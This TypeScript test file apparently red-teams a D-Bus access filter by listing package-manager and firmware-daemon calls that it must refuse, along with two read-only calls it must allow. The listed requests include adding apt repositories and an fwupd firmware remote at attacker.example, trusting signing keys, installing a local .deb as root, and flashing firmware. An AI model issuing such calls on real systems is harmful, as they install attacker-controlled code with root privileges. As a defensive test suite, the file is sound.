import { describe } from 'node:test';
import type { Attack, Legitimate } from './redteam-support.js';
import { call, forbiddenEverywhere, stillAllowed } from './redteam-support.js';

/**
 * Red team, class "packages and firmware": installing, removing or upgrading software, adding a
 * repository or a signing key, flashing firmware — through any package manager's daemon or any
 * application that drives one (issue 12 promise; docs/SECURITY-REVIEW.md "packages and firmware").
 */

const APTD = ['system', 'org.debian.apt', '/org/debian/apt', 'org.debian.apt'] as const;
const APTD_REF = 'aptdaemon aptdaemon/core.py (class AptDaemon, org.debian.apt at /org/debian/apt)';

const aptdaemon: Attack[] = [
  ...(
    [
      [
        'CommitPackages',
        [['evil'], [], [], [], [], []],
        'install/remove/purge/upgrade/downgrade in one transaction',
      ],
      ['UpgradePackages', [['openssh-server']], 'upgrades named packages'],
      ['InstallFile', ['/tmp/evil.deb', true], 'installs a local .deb (its maintainer scripts run as root)'],
      [
        'AddRepository',
        ['deb', 'http://attacker.example/debian', 'stable', ['main'], '', ''],
        'adds an apt source',
      ],
      ['AddVendorKeyFromKeyserver', ['0xDEADBEEF', 'hkps://keyserver.example'], 'trusts a signing key'],
      ['UpdateCache', [], 'refreshes package lists (pulls the new repository)'],
      ['FixBrokenDepends', [], 'lets apt install/remove to satisfy dependencies'],
    ] as const
  ).map(([member, args, what]): Attack => ({
    what: `aptdaemon ${member}: ${what}`,
    ref: APTD_REF,
    req: call(...APTD, member, [...args]),
  })),
  {
    what: 'aptdaemon transaction Run: runs the queued transaction (the install happens here)',
    ref: 'aptdaemon aptdaemon/core.py class Transaction, org.debian.apt.transaction.Run()',
    req: call(
      'system',
      'org.debian.apt',
      '/org/debian/apt/transaction/0123abcd',
      'org.debian.apt.transaction',
      'Run',
    ),
  },
  {
    what: 'aptkit (Linux Mint fork of aptdaemon) CommitPackages',
    ref: 'linuxmint/aptkit aptkit/core.py (org.aptkit at /org/aptkit)',
    req: call('system', 'org.aptkit', '/org/aptkit', 'org.aptkit', 'CommitPackages', [
      ['evil'],
      [],
      [],
      [],
      [],
      [],
    ]),
  },
];

const others: Attack[] = [
  ...(
    [
      ['Activate', ['0123456789abcdef'], 'activates a staged firmware update'],
      ['Unlock', ['0123456789abcdef'], 'unlocks a device for flashing'],
      [
        'ModifyRemote',
        ['lvfs', 'MetadataURI', 'https://attacker.example/firmware.xml.gz'],
        'points a firmware remote elsewhere',
      ],
      ['SetApprovedFirmware', [['deadbeef']], 'changes which firmware may be installed'],
      [
        'Install',
        ['*', 0, { offline: { signature: 'b', value: true } }],
        'schedules a firmware install (the file comes as an fd)',
      ],
    ] as const
  ).map(([member, args, what]): Attack => ({
    what: `fwupd ${member}: ${what}`,
    ref: 'fwupd/fwupd src/org.freedesktop.fwupd.xml (interface org.freedesktop.fwupd at /)',
    req: call('system', 'org.freedesktop.fwupd', '/', 'org.freedesktop.fwupd', member, [...args]),
  })),
  ...(
    [
      ['Update', ['', 0], 'installs an OS update'],
      ['Vacuum', [], 'removes old OS versions'],
    ] as const
  ).map(([member, args, what]): Attack => ({
    what: `sysupdated Target.${member}: ${what}`,
    ref: 'org.freedesktop.sysupdate1(5); systemd src/sysupdate/updatectl.c uses /org/freedesktop/sysupdate1/target/host',
    req: call(
      'system',
      'org.freedesktop.sysupdate1',
      '/org/freedesktop/sysupdate1/target/host',
      'org.freedesktop.sysupdate1.Target',
      member,
      [...args],
    ),
  })),
  ...(
    [
      ['AddSourceFromLine', ['deb http://attacker.example/debian stable main'], 'adds an apt source'],
      ['AddKeyFromData', ['-----BEGIN PGP PUBLIC KEY BLOCK-----'], 'trusts a signing key'],
      [
        'ReplaceSourceEntry',
        [
          'deb http://deb.debian.org/debian bookworm main',
          'deb http://attacker.example/debian bookworm main',
        ],
        'swaps a mirror',
      ],
    ] as const
  ).map(([member, args, what]): Attack => ({
    what: `software-properties ${member}: ${what}`,
    ref: 'python3-software-properties softwareproperties/dbus/SoftwarePropertiesDBus.py (installed on Debian 12 here, system service com.ubuntu.SoftwareProperties)',
    req: call('system', 'com.ubuntu.SoftwareProperties', '/', 'com.ubuntu.SoftwareProperties', member, [
      ...args,
    ]),
  })),
  ...(
    [
      [
        'org.freedesktop.Application',
        'ActivateAction',
        ['install', [{ signature: '(su)', value: ['org.example.Evil', 0] }], {}],
      ],
      [
        'org.freedesktop.Application',
        'ActivateAction',
        ['filename', [{ signature: '(s)', value: ['/tmp/evil.flatpakref'] }], {}],
      ],
      [
        'org.gtk.Actions',
        'Activate',
        ['install', [{ signature: '(su)', value: ['org.example.Evil', 0] }], {}],
      ],
      ['org.gtk.Actions', 'Activate', ['uninstall', [{ signature: 's', value: 'org.mozilla.firefox' }], {}]],
    ] as const
  ).map(([iface, member, args]): Attack => ({
    what: `GNOME Software ${iface}.${member}("${args[0]}"): installs/removes software through the app's actions`,
    ref: 'gnome-software src/gs-application.c action entries: install (su), uninstall s, filename (s)',
    req: call('session', 'org.gnome.Software', '/org/gnome/Software', iface, member, [...args]),
  })),
  {
    what: 'dnf5daemon Rpm.install',
    ref: 'dnf5 dnf5daemon-server/dbus/interfaces/org.rpm.dnf.v0.rpm.Rpm.xml',
    req: call('system', 'org.rpm.dnf.v0', '/org/rpm/dnf/v0/session/1', 'org.rpm.dnf.v0.rpm.Rpm', 'install', [
      ['evil'],
      {},
    ]),
  },
  {
    what: 'dnf5daemon Goal.do_transaction',
    ref: 'dnf5 dnf5daemon-server/dbus/interfaces/org.rpm.dnf.v0.Goal.xml',
    req: call(
      'system',
      'org.rpm.dnf.v0',
      '/org/rpm/dnf/v0/session/1',
      'org.rpm.dnf.v0.Goal',
      'do_transaction',
      [{}],
    ),
  },
  ...(
    [
      'InstallPackage',
      'UpgradePackages',
      'InstallUpdates',
      'ApplyUpdates',
      'AddRepository',
      'FlashFirmware',
      'UpdateFirmware',
    ] as const
  ).map((member): Attack => ({
    what: 'a package/firmware word on an unknown interface',
    ref: 'issue 12 promise: "manage packages/firmware" by any member',
    req: call('system', 'com.example.Updater', '/com/example/Updater', 'com.example.Updater', member, [
      ['x'],
    ]),
  })),
];

const refused: Attack[] = [
  ...(
    [
      'InstallPackages',
      'UpdatePackages',
      'RemovePackages',
      'RefreshCache',
      'InstallFiles',
      'UpgradeSystem',
      'RepairSystem',
    ] as const
  ).map((member): Attack => ({
    what: 'PackageKit transaction',
    ref: '/usr/share/dbus-1/interfaces/org.freedesktop.PackageKit.Transaction.xml (Debian 12)',
    req: call(
      'system',
      'org.freedesktop.PackageKit',
      '/1_abc',
      'org.freedesktop.PackageKit.Transaction',
      member,
      [0, ['x']],
    ),
  })),
  {
    what: 'PackageKit session Modify2.InstallPackageNames (GNOME Software helper)',
    ref: 'PackageKit org.freedesktop.PackageKit.Modify2',
    req: call(
      'session',
      'org.freedesktop.PackageKit',
      '/org/freedesktop/PackageKit',
      'org.freedesktop.PackageKit.Modify2',
      'InstallPackageNames',
      [['x'], '', {}],
    ),
  },
  {
    what: 'PackageKit offline update trigger',
    ref: 'gnome-shell org.freedesktop.PackageKit.Offline.xml',
    req: call(
      'system',
      'org.freedesktop.PackageKit',
      '/org/freedesktop/PackageKit',
      'org.freedesktop.PackageKit.Offline',
      'Trigger',
      ['reboot'],
    ),
  },
  {
    what: 'Flatpak system helper Deploy',
    ref: 'flatpak system-helper org.freedesktop.Flatpak.SystemHelper',
    req: call(
      'system',
      'org.freedesktop.Flatpak.SystemHelper',
      '/org/freedesktop/Flatpak/SystemHelper',
      'org.freedesktop.Flatpak.SystemHelper',
      'Deploy',
      [{ text: '/repo' }, 0, 'app/org.example.Evil/x86_64/stable', 'flathub', [], [], ''],
    ),
  },
  ...(['InstallPackages', 'RemovePackages', 'UpgradeSystem'] as const).map((member): Attack => ({
    what: 'aptdaemon members the global floor already knows',
    ref: APTD_REF,
    req: call(...APTD, member, member === 'UpgradeSystem' ? [false] : [['x']]),
  })),
];

const legitimate: Legitimate[] = [
  {
    what: 'listing updates through PackageKit',
    req: call(
      'system',
      'org.freedesktop.PackageKit',
      '/1_abc',
      'org.freedesktop.PackageKit.Transaction',
      'GetUpdates',
      [0],
    ),
    level: 'high',
    kind: 'read',
  },
  {
    what: 'listing firmware devices',
    req: call('system', 'org.freedesktop.fwupd', '/', 'org.freedesktop.fwupd', 'GetDevices'),
    level: 'high',
    kind: 'read',
  },
];

describe('redteam: packages and firmware — bypasses found by the red team (refused now; todo while a class is open)', () => {
  describe('aptdaemon and its fork', () => forbiddenEverywhere(aptdaemon));
  describe('firmware, OS images, repositories, software centres, other daemons', () =>
    forbiddenEverywhere(others));
});

describe('redteam: packages and firmware — refused today (regression guards)', () =>
  forbiddenEverywhere(refused));

describe('redteam: packages and firmware — what a fix must not break', () => stillAllowed(legitimate));
